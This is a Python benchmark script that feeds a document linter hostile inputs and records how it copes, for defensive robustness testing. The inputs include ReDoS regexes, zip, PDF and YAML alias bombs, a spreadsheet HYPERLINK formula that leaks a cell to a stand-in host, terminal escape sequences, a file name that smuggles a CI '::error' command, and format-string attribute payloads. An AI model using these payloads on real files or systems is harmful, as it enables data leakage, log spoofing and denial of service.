"""Every case of issue 17, re-run: exit code, wall time and peak memory of `kpilint` on each;
with `--round 3`, the cases of issue 25 instead (text, writes, config trust, user errors,
bounds), HTML over 8,000 files among them.

    python bench/hostile_bench.py [--round 3] [--json bench/results/hostile.json]

Generates each hostile input (none is checked in), runs the real command line on it (with a
clean draft beside it where "the other files still checked" is the point), and prints a
table: the exit code, the seconds, the peak RSS of kpilint and its workers (wait4), and
whether the output names the file, holds no traceback, and holds no escape or formula the
input did not. Figures for docs/robustness.md; nothing here is asserted in tests.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT / "tests"), str(ROOT / "src")]

from kpilint import load  # noqa: E402
from kpilint.writers.xlsx import write_xlsx  # noqa: E402
from test_bounded_input import laughs  # noqa: E402
from test_growth import empty_pages_pdf  # noqa: E402
from test_isolation import big_docx, pdf_bomb  # noqa: E402

EXAMPLES = ROOT / "examples"
ESCAPES = "\x1b[2K\r\x1b[1A伪造\x1b]8;;http://example.invalid\x1b\\点我\x1b]8;;\x1b\\\x1b[8m隐藏\u202e反向"


def run(args: list[str], cwd: Path, preexec: Callable[[], None] | None = None) -> dict:
    """One run of the command line: exit code, seconds, peak RSS (MB) of it and its workers."""
    with tempfile.TemporaryFile() as output:
        started = time.perf_counter()
        proc = subprocess.Popen([sys.executable, "-m", "kpilint", *args], cwd=cwd, stdout=output,
                                stderr=subprocess.STDOUT, preexec_fn=preexec)  # fmt: skip
        _, status, usage = os.wait4(proc.pid, 0)  # the usage of kpilint and every worker it reaped
        seconds = time.perf_counter() - started
        proc.returncode = os.waitstatus_to_exitcode(status)
        output.seek(0)
        text = output.read().decode("utf-8", "replace")
    return {"exit": proc.returncode, "seconds": round(seconds, 2), "peak_mb": usage.ru_maxrss // 1024,
            "traceback": "Traceback" in text, "text": text}  # fmt: skip


def _draft(path: Path, name: str = "群众满意度", project: str = "甲") -> Path:
    path.write_text(f"projects:\n  - name: {json.dumps(project)}\n    budget: 1\n    indicators:\n"
                    f"      - {{level1: 满意度指标, level2: 服务对象满意度指标, name: {json.dumps(name)}, value: ≥90, basis: 计划}}\n",
                    "utf-8")  # fmt: skip
    return path


def _rule(body: str, message: str = "“{indicator}”有问题") -> str:
    return (f"rules:\n  - id: USR001\n    name: user-rule\n    severity: warning\n    scope: indicator\n{body}\n"
            f"    message: {{zh: {json.dumps(message)}, en: x}}\n")  # fmt: skip


def make_heavy(tmp: Path) -> None:
    """The inputs whose making takes hundreds of MB (a bomb is built in memory), made in a
    process of their own: a process's peak RSS passes to the processes it starts, and the
    figures must be kpilint's."""
    big_docx(tmp / "big.docx", 4_000_000)
    pdf_bomb(tmp / "bomb.pdf", 420_000_000)
    write_xlsx(load(EXAMPLES / "defects.yaml"), tmp / "zb.xlsx")
    with zipfile.ZipFile(tmp / "zb.xlsx", "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/media/padding.bin", b"\0" * 300_000_000)
    empty_pages_pdf(tmp / "pages.pdf", 200_000, box=b"[0 0 9 9]")


def cases(tmp: Path) -> list[tuple[str, list[str], str, Callable[[dict], bool]]]:
    """(case, arguments, the file the output must name, what else must hold)."""
    shutil.copy(EXAMPLES / "defects.yaml", tmp / "other.yaml")
    long_name = _draft(tmp / "long.yaml", "a" * 40 + "b")
    found: list[tuple[str, list[str], str, Callable[[dict], bool]]] = []
    add = lambda name, args, names, ok=lambda r: True: found.append((name, args, names, ok))  # noqa: E731

    # 1. the budget that really stops work
    (tmp / "slow_where.yaml").write_text(_rule("    where: {name: {regex: '(a+)+$'}}"), "utf-8")
    (tmp / "slow_matches.yaml").write_text(_rule("    assert: 'not matches(name, \"(a|aa)+$\")'"), "utf-8")
    (tmp / "ratio.yaml").write_text("limits: {max_zip_ratio: 100000}\n", "utf-8")
    (tmp / "deep.yaml").write_text("projects: " + "[" * 30_000 + "]" * 30_000 + "\n", "utf-8")
    add("1 rule `where` regex (a+)+$ on a 40-char name", ["check", str(long_name), "--rules", "slow_where.yaml"], "long.yaml")
    add("1 rule matches() (a|aa)+$, catastrophic in backtracking engines",
        ["check", str(long_name), "other.yaml", "--rules", "slow_matches.yaml"], "long.yaml", lambda r: "USR001" in r["text"])
    add(f"1 docx {(tmp / 'big.docx').stat().st_size // 1000} kB inflating to "
        f"{sum(i.file_size for i in zipfile.ZipFile(tmp / 'big.docx').infolist()) // 10**6} MB, default limits "
        f"but max_zip_ratio", ["check", "big.docx", "other.yaml", "--config", "ratio.yaml"], "big.docx",
        lambda r: "KPI301" in r["text"])
    add(f"1 PDF of {(tmp / 'bomb.pdf').stat().st_size // 1000} kB, content stream inflating to 420 MB",
        ["check", "bomb.pdf", "other.yaml"], "bomb.pdf", lambda r: "KPI301" in r["text"])
    # 2-3. drafts that crashed or flooded the parser
    add("2 draft of 30,000 nested [ (60 kB), --jobs 2 --format json",
        ["check", "deep.yaml", "other.yaml", "--jobs", "2", "--format", "json"], "deep.yaml",
        lambda r: r["text"].count('"path"') >= 2)
    (tmp / "laughs.yaml").write_text(laughs() + "projects: [*l9]\n", "utf-8")
    add(f"3 draft of nested aliases ({(tmp / 'laughs.yaml').stat().st_size} bytes)", ["check", "laughs.yaml"], "laughs.yaml")
    add("3 the same under --fix", ["check", "laughs.yaml", "--fix"], "laughs.yaml")
    # 4-6. workbooks
    injection = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看详情")'
    write_xlsx(load(_draft(tmp / "inj.yaml", injection, injection)), tmp / "inj.xlsx")
    add("4 --annotate with a name that is a formula", ["check", "inj.xlsx", "--annotate", "inj-out.xlsx"], "inj-out.xlsx",
        lambda r: _no_formula(tmp / "inj-out.xlsx"))
    add("5 --annotate a workbook inflating 300 MB (zip limits)", ["check", "zb.xlsx", "--annotate", "zb-out.xlsx"], "zb.xlsx",
        lambda r: not (tmp / "zb-out.xlsx").exists())
    write_xlsx(load(EXAMPLES / "defects.yaml"), tmp / "vba.xlsm")
    with zipfile.ZipFile(tmp / "vba.xlsm", "a") as z:
        z.writestr("xl/vbaProject.bin", os.urandom(20_000))
        z.writestr("xl/media/image1.png", os.urandom(20_000))
    before = _parts(tmp / "vba.xlsm")
    add("6 --fix an .xlsm with VBA and an image", ["check", "vba.xlsm", "--fix"], "",
        lambda r: _kept(before, _parts(tmp / "vba.xlsm")))
    # 7. escapes
    _draft(tmp / "esc.yaml", ESCAPES, ESCAPES)
    add("7 names with ESC sequences, OSC 8, RTL override, --color never", ["check", "esc.yaml", "--color", "never"], "esc.yaml",
        lambda r: not re.search(r"[\x1b\x9b\u202e]", r["text"]))
    add("7 the same, --color always", ["check", "esc.yaml", "--color", "always"], "esc.yaml",
        lambda r: not re.search(r"[\x9b\u202e]|\x1b(?!\[[0-9;]*m)", r["text"]))
    # 8. walks
    walk = tmp / "walk"
    walk.mkdir()
    os.mkfifo(walk / "pipe.yaml")
    (walk / "zero.yaml").symlink_to("/dev/zero")
    (walk / "broken.yaml").write_text("department: {name: 甲\nprojects: []\n", "utf-8")
    shutil.copy(EXAMPLES / "defects.yaml", walk / "d.yaml")
    add("8 walk: a FIFO and a link to /dev/zero named .yaml, a broken draft", ["check", "walk"], "broken.yaml",
        lambda r: "pipe.yaml: 已跳过" in r["text"] and "zero.yaml: 已跳过" in r["text"] and "KPI301" in r["text"])
    # 9. user mistakes
    for n, limits in enumerate(["max_cells: lots", "max_cells: [1]", "timeout_per_file: .nan",
                                "max_file_bytes: -1", "timeout_per_file: .inf"]):  # fmt: skip
        (tmp / f"c{n}.yaml").write_text(f"limits: {{{limits}}}\n", "utf-8")
        add(f"9 config limits {{{limits}}}", ["check", "other.yaml", "--config", f"c{n}.yaml"], f"c{n}.yaml")
    (tmp / "cp.yaml").write_text("params: [KPI311]\n", "utf-8")
    add("9 config non-map params", ["check", "other.yaml", "--config", "cp.yaml"], "cp.yaml")
    for name, body in (("severity", "    severity: [warning]\n    assert: name != level2"),
                       ("regex", "    where: {name: {regex: '(unclosed'}}"),
                       ("deep", "    assert: '" + "(" * 300 + "1" + ")" * 300 + "'")):  # fmt: skip
        (tmp / f"r_{name}.yaml").write_text(_rule(body).replace("    severity: warning\n" if name == "severity" else "\0", ""), "utf-8")
        add(f"9 rule file: {name}", ["check", "other.yaml", "--rules", f"r_{name}.yaml"], f"r_{name}.yaml")
    # 10. floods
    for name, body, message in (("list", '    assert: \'len([1, 2] * len(name) * len(name) * len(name)) > 0\'', "x"),
                                ("text", '    assert: \'len("x" * len(name) * len(name) * len(name)) > 0\'', "x"),
                                ("round", "    assert: 'round(len(\"x\"), -10000000) == 0'", "x"),
                                ("width", "    assert: name != level2", "{indicator:>1000000000}"),
                                ("mro", "    assert: name != level2", "{indicator.__class__.__mro__}")):  # fmt: skip
        (tmp / f"f_{name}.yaml").write_text(_rule(body, message), "utf-8")
        add(f"10 rule {name}: {message if message != 'x' else body.split(': ', 1)[1]}",
            ["check", str(long_name), "--rules", f"f_{name}.yaml"], "f_" if message != "x" else "USR001")
    (tmp / "f_anchor.yaml").write_text(laughs() + _rule("    assert: name != level2\n    params: {n: *l9}"), "utf-8")
    add("10 anchors in a rule's params", ["check", "other.yaml", "--rules", "f_anchor.yaml"], "f_anchor.yaml")
    (tmp / "c_anchor.yaml").write_text(laughs() + "params: {KPI311: {floor: *l9}}\n", "utf-8")
    add("10 anchors in .kpilint.yaml", ["check", "other.yaml", "--config", "c_anchor.yaml"], "c_anchor.yaml")
    (tmp / "c_zero.yaml").write_text("rules: [/dev/zero]\n", "utf-8")
    add("10 rules: [/dev/zero]", ["check", "other.yaml", "--config", "c_zero.yaml"], "/dev/zero")
    # 11. fix safety
    _draft(tmp / "same.yaml")
    add("11 check d.yaml -o d.yaml", ["check", "same.yaml", "-o", "same.yaml"], "same.yaml",
        lambda r: "projects:" in (tmp / "same.yaml").read_text("utf-8"))
    _draft(tmp / "ro.yaml").chmod(0o444)
    add("11 --fix a 0444 draft", ["check", "ro.yaml", "other.yaml", "--fix"], "ro.yaml",
        lambda r: "≥90%" not in (tmp / "ro.yaml").read_text("utf-8"))
    _draft(tmp / "real.yaml")
    (tmp / "link.yaml").symlink_to("real.yaml")
    add("11 --fix a symlinked draft", ["check", "link.yaml", "--fix"], "", lambda r: (tmp / "link.yaml").is_symlink())
    add("11 --fix a missing path, then a draft", ["check", "gone.yaml", "other.yaml", "--fix"], "gone.yaml")
    # 12. growth
    row = "{level1: 产出指标, level2: 数量指标, name: 次数, value: ≥2 次, basis: 计划}"
    (tmp / "dup.yaml").write_text("projects:\n" + "".join(f"  - {{code: 13082626P002089100022, name: 项目{n}, budget: 1, "
                                                        f"indicators: [{row}]}}\n" for n in range(30_000)), "utf-8")  # fmt: skip
    add("12 30,000 projects sharing one code", ["check", "dup.yaml", "--format", "json", "-o", "dup.json"], "")
    subprocess.run([sys.executable, "-c", _DOCX_CASES, str(tmp)], check=True)
    add("12 one 300,000-character paragraph (docx)", ["check", "para.docx"], "")
    add("12 a 3,000-row vertical merge (docx)", ["check", "merge.docx"], "merge.docx")
    return found


_DOCX_CASES = """
import sys, zipfile
from pathlib import Path
sys.path[:0] = ["tests", "src"]
import test_growth as g
tmp = Path(sys.argv[1])
g._docx_body(tmp / "para.docx", "<w:p><w:r><w:t>" + "项目" * 150_000 + "</w:t></w:r></w:p>")
first = '<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p><w:r><w:t>产出指标</w:t></w:r></w:p></w:tc>'
rest = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>"
rows = "".join(f"<w:tr>{first if r == 0 else rest}<w:tc><w:p><w:r><w:t>行{r}</w:t></w:r></w:p></w:tc></w:tr>" for r in range(3000))
g._docx_body(tmp / "merge.docx", f"<w:tbl><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>{rows}</w:tbl>")
"""


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def _kept(before: dict[str, bytes], after: dict[str, bytes]) -> bool:
    changed = {n for n in before if before[n] != after.get(n)}
    return list(before) == list(after) and all(n.startswith("xl/worksheets/") or n == "xl/styles.xml" for n in changed)


def _no_formula(book: Path) -> bool:
    with zipfile.ZipFile(book) as z:
        return not any(re.search(rb"<(?:\w+:)?f[\s>/]", z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets/"))


def _extra_cases(tmp: Path) -> list[tuple[str, list[str], str, Callable[[dict], bool]]]:
    """Cases whose input is built by another case's generator once it has run."""
    claimed = tmp / "claimed.xlsx"
    write_xlsx(load(EXAMPLES / "defects.yaml"), tmp / "plain.xlsx")
    with zipfile.ZipFile(tmp / "plain.xlsx") as src, zipfile.ZipFile(claimed, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            data = src.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data)
            out.writestr(item, data)
    return [("12 a sheet claiming A1:XFD1048576", ["check", "claimed.xlsx"], "", lambda r: True),
            (f"12 a PDF of 200,000 pages ({(tmp / 'pages.pdf').stat().st_size // 10**6} MB)", ["check", "pages.pdf"], "pages.pdf", lambda r: True)]


def round_three(tmp: Path) -> list[tuple[str, list[str], str, Callable[[dict], bool]]]:
    """Issue 25's cases: (case, arguments, the file the output must name, what else must hold)."""
    found: list[tuple[str, list[str], str, Callable[[dict], bool]]] = []

    def add(name: str, argv: list[str], names: str, ok: Callable[[dict], bool] = lambda r: True) -> None:
        found.append((name, argv, names, ok))

    def valid(r: dict) -> bool:
        return "内部错误" not in r["text"] and "\ufffd" not in r["text"]

    gbk = tmp / "gbk"
    gbk.mkdir()
    Path(os.fsdecode(os.fsencode(gbk) + b"/\xb9\xfa.yaml")).write_bytes((EXAMPLES / "defects.yaml").read_bytes())
    for fmt in ("text", "json", "sarif", "junit", "github", "gitlab", "html"):
        add(f"text: GBK file-name bytes, --format {fmt}", ["check", "gbk", "--format", fmt], "", valid)
    add("text: GBK file-name bytes, --write-baseline", ["check", "gbk", "--write-baseline", "gbk.json"], "", valid)
    sys.path[:0] = [str(ROOT / "tests")]
    from test_hostile_round_three import _surrogate_pdf

    _surrogate_pdf(tmp / "surrogate.pdf")
    for fmt in ("json", "sarif", "html"):
        add(f"text: a PDF glyph mapped to U+D800, --format {fmt}", ["check", "surrogate.pdf", "--format", fmt],
            "surrogate.pdf", lambda r: "内部错误" not in r["text"] and r["exit"] == 1)  # fmt: skip
    inject = "x\n::error file=pwned::injected\n.yaml"
    (tmp / "inj").mkdir()
    shutil.copy(EXAMPLES / "defects.yaml", tmp / "inj" / inject)
    add("text: a newline and ::error in a file name, --format github", ["check", "inj", "--format", "github"], "",
        lambda r: not any(line.startswith("::error file=pwned") for line in r["text"].splitlines()))  # fmt: skip
    trust = tmp / "trust"
    trust.mkdir()
    trust.chmod(0o1777)
    _draft(trust / "d.yaml")
    (trust / ".kpilint.yaml").write_text("select: [KPI999]\n", "utf-8")
    add("config: .kpilint.yaml in a 1777 folder", ["check", "d.yaml"], ".kpilint.yaml", lambda r: r["exit"] == 1)
    for option in ("--rules", "--config", "--baseline", "-o", "--write-baseline"):
        add(f"user error: {option} a directory", ["check", "other.yaml", option, "gbk"], "gbk", valid)
    add("user error: convert a directory", ["convert", "gbk"], "gbk", valid)
    add("user error: --timeout-per-file 1e12", ["check", "other.yaml", "--timeout-per-file", "1e12"], "", valid)
    _draft(tmp / "linked.yaml")
    os.link(tmp / "linked.yaml", tmp / "linked2.yaml")
    add("writes: --fix a draft with two hard links", ["check", "linked.yaml", "--fix"], "",
        lambda r: (tmp / "linked.yaml").stat().st_nlink == 2 and "≥90%" in (tmp / "linked2.yaml").read_text("utf-8"))  # fmt: skip
    levels = "[" * 6 + "name" + "".join("] * len(name)" for _ in range(6))
    (tmp / "nest.yaml").write_text(_rule(f"    assert: 'not contains({levels}, \"x\")'"), "utf-8")
    _draft(tmp / "long.yaml", name="群众满意度" * 8)
    add("bounds: nested lists of 40⁶ items in a rule", ["check", "long.yaml", "--rules", "nest.yaml"], "", valid)
    many = tmp / "many"
    many.mkdir()
    one = (EXAMPLES / "defects.yaml").read_text("utf-8")
    for n in range(8_000):
        (many / f"d{n:04d}.yaml").write_text(one, "utf-8")
    for fmt in ("json", "html"):
        add(f"bounds: 8,000 drafts, --format {fmt}", ["check", "many", "--format", fmt, "--jobs", "2", "-o", f"many.{fmt}"], "")
    return found


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--json", type=Path)
    ap.add_argument("--round", type=int, choices=(2, 3), default=2, help="issue 17's cases (2) or issue 25's (3)")
    ap.add_argument("--make-heavy", type=Path, help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.make_heavy:
        make_heavy(args.make_heavy)
        return 0
    rows = []
    with tempfile.TemporaryDirectory() as folder:
        tmp = Path(folder)
        if args.round == 3:
            _draft(tmp / "other.yaml")
            chosen = round_three(tmp)
        else:
            subprocess.run([sys.executable, __file__, "--make-heavy", str(tmp)], check=True)
            chosen = cases(tmp) + _extra_cases(tmp)
        for name, argv, names, ok in chosen:
            result = run(argv, tmp / "trust" if name.startswith("config:") else tmp)  # found from the folder it runs in
            named = not names or names in result["text"]
            row = {"case": name, "exit": result["exit"], "seconds": result["seconds"], "peak_mb": result["peak_mb"],
                   "names_file": named, "no_traceback": not result["traceback"], "holds": bool(ok(result))}  # fmt: skip
            rows.append(row)
            print(f"| {name} | {row['exit']} | {row['seconds']:.1f} | {row['peak_mb']} | "
                  f"{'yes' if named and row['no_traceback'] and row['holds'] else 'NO'} |", flush=True)  # fmt: skip
    if args.json:
        args.json.parent.mkdir(parents=True, exist_ok=True)
        args.json.write_text(json.dumps(rows, ensure_ascii=False, indent=1), "utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main())
